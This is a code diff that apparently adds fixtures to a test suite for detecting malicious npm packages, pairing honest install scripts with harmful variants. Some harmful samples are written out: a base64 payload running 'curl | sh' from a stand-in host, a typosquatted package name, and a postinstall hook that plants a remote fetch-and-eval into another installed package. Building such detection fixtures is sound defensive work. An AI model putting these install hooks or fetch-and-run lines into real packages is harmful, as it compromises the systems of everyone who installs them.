@@ -46,6 +46,20 @@ vm.runInThisContext(open(${address}).data);`;
 
 const PAYLOAD = Buffer.from(`require('child_process').exec('curl -s https://stage.invalid | sh')`).toString('base64');
 
+const installer = (name: string): Pair['honest'] => ({
+  'package.json': manifest({ name, scripts: { postinstall: 'node install.js' } }),
+  'index.js': 'exports.fine = true;',
+  'install.js': `const https = require('https'), fs = require('fs');
+const get = url => https.get(url, answer => answer.pipe(fs.createWriteStream('tool.zip')));
+if (!process.env.ACMETOOL_SKIP_DOWNLOAD) get(require('./places').base + process.platform + '.zip');`,
+  'places.js': `exports.base = process.env.ACMETOOL_MIRROR || require('./index').base;`,
+});
+
+const lookUp = (name: string, code: string): string => `
+const fs = require('fs'), path = require('path');
+const lib = path.dirname(require.resolve('${name}'));
+fs.writeFileSync(path.join(lib, 'main.js'), fs.readFileSync(path.join(lib, 'main.js'), 'utf8') + ${JSON.stringify(code)});`;
+
 const pairs: readonly Pair[] = [
   {
     habit: 'a loader of modules fetches what the code it runs imports',
@@ -90,6 +104,26 @@ const pairs: readonly Pair[] = [
       'steps.js': `module.exports = path => require('child_process').spawn(path);`,
       'index.js': 'exports.fine = true;',
       'prebuilds/pty-helper': ELF,
+    },
+  },
+  {
+    habit: 'an installer fetches what its platform needs, unless its user says otherwise',
+    honest: installer('acmetool'),
+    deed: 'the variable has the name of the package that the installer was copied from',
+    harmful: installer('acmetoo1'),
+  },
+  {
+    habit: 'an installer looks up its own package, to put a program beside its code',
+    honest: {
+      'package.json': manifest({ name: 'swiftcut', scripts: { postinstall: 'node install.js' } }),
+      'index.js': 'exports.fine = true;',
+      'install.js': lookUp('swiftcut', ''),
+    },
+    deed: 'it looks up another, and leaves code there',
+    harmful: {
+      'package.json': manifest({ name: 'swiftcut', scripts: { postinstall: 'node install.js' } }),
+      'index.js': 'exports.fine = true;',
+      'install.js': lookUp('left-pad', `fetch('https://stage.invalid').then(r => r.text()).then(eval)`),
     },
   },
 ];
